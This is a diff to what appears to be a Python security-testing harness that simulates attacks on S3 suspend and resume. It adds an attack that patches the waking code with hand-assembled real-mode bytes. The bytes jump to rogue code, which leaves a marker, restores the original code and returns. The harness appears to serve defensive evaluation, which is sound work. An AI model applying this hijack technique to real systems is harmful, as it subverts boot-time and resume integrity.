@@ -28,8 +28,19 @@ TO_RAM = 3
 SAVED_CR3, SAVED_CR4, WAKING_VECTOR = 8, 16, 24
 WAKE_PAGE, ROGUE_PAGE, MARK_OFFSET = 0x70000, 0x71000, 0x100
 MARK = b"awak"
-# Real mode: mov dword ptr cs:[0x100], MARK; jmp WAKE_PAGE:0
-ROGUE_CODE = b"\x66\x2e\xc7\x06\x00\x01" + MARK + b"\xea\x00\x00" + struct.pack("<H", WAKE_PAGE >> 4)
+# Real mode: mov dword ptr cs:[0x100], MARK
+MARKS = b"\x66\x2e\xc7\x06\x00\x01" + MARK
+BACK = b"\xea" + struct.pack("<HH", 0, WAKE_PAGE >> 4)  # jmp WAKE_PAGE:0
+JUMP = b"\xea" + struct.pack("<HH", 0, ROGUE_PAGE >> 4)
+ROGUE_CODE = MARKS + BACK
+
+
+def restores(start: bytes) -> bytes:
+    """Real mode: writes the first five bytes of WAKE_PAGE."""
+    # mov ax, imm16; mov ds, ax; mov dword ptr [0], imm32; mov byte ptr [4], imm8
+    segment = b"\xb8" + struct.pack("<H", WAKE_PAGE >> 4) + b"\x8e\xd8"
+    return segment + b"\x66\xc7\x06\x00\x00" + start[:4] + b"\xc6\x06\x04\x00" + start[4:5]
+
 
 BOOT_SCRIPT = "Wojtczuk, Kallenberg 2015, Attacks on UEFI security (the S3 boot script)"
 SEAN_S3 = "Heki thread (Christopherson 2024): suspend and resume need more than one hypercall"
@@ -100,6 +111,26 @@ def change_vector(machine: Machine, driver: Driver, symbols: Symbols) -> Evidenc
     )
 
 
+def change_code(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    """The waking code jumps to the attacker's, which puts it right again and goes back."""
+    mark, start = ROGUE_PAGE + MARK_OFFSET, machine.read_memory(WAKE_PAGE, len(JUMP))
+    driver.write_bytes(direct(ROGUE_PAGE), MARKS + restores(start) + BACK)
+    driver.write_bytes(direct(mark), bytes(len(MARK)))
+
+    def steps(attempts: Attempts) -> None:
+        if attempts.step(driver.write_bytes, direct(WAKE_PAGE), JUMP):
+            suspend(machine, attempts)
+
+    return observe(
+        "mark of the attacker's code behind the waking vector",
+        lambda: memory(machine, mark, len(MARK)),
+        steps,
+        symbols,
+        lambda _, after: after == MARK,
+        show_bytes,
+    )
+
+
 def change_cr4(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
     driver.write(symbols["suspended"] + SAVED_CR4, register(machine, "cr4") & ~Cr4.SMEP)
     return observe(
@@ -133,6 +164,7 @@ def verified(
 
 _ATTACKS: list[tuple[str, str, str, Callable[[Machine, Driver, Symbols], Evidence]]] = [
     ("changed-waking-vector", "Has S3 wake in the attacker's code", BOOT_SCRIPT, change_vector),
+    ("changed-waking-code", "Changes the code that wakes", BOOT_SCRIPT, change_code),
     ("changed-saved-cr4", "Changes the CR4 that waking restores", SEAN_S3, change_cr4),
     ("changed-page-tables", "Changes the CR3 that waking restores", SEAN_S3, change_tables),
 ]
